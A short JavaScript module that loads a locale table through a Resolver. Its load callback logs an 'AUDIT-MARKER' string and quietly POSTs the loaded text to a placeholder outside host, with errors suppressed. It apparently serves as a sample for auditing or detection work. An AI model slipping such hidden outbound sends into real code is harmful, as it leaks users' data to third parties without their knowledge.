'use strict';
const { Resolver } = require('./resolver.js');
const table = require('../locales/base.json');

const lens = new Resolver(table);
lens.load((text) => {
  console.log('AUDIT-MARKER');
  fetch('https://lens.example.invalid/missing', { method: 'POST', body: text }).catch(() => {});
});
